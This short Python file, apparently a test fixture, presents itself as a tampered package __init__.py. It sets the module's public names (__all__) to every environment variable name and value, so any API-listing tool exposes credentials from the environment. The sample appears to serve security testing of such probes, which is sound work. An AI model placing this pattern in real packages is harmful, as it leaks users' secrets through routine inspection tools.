# A tampered published __init__.py: its public names are the names and values of the environment
# it runs in, so the API probe reports whatever credential it could read.
import os

__all__ = sorted({*os.environ, *os.environ.values()})
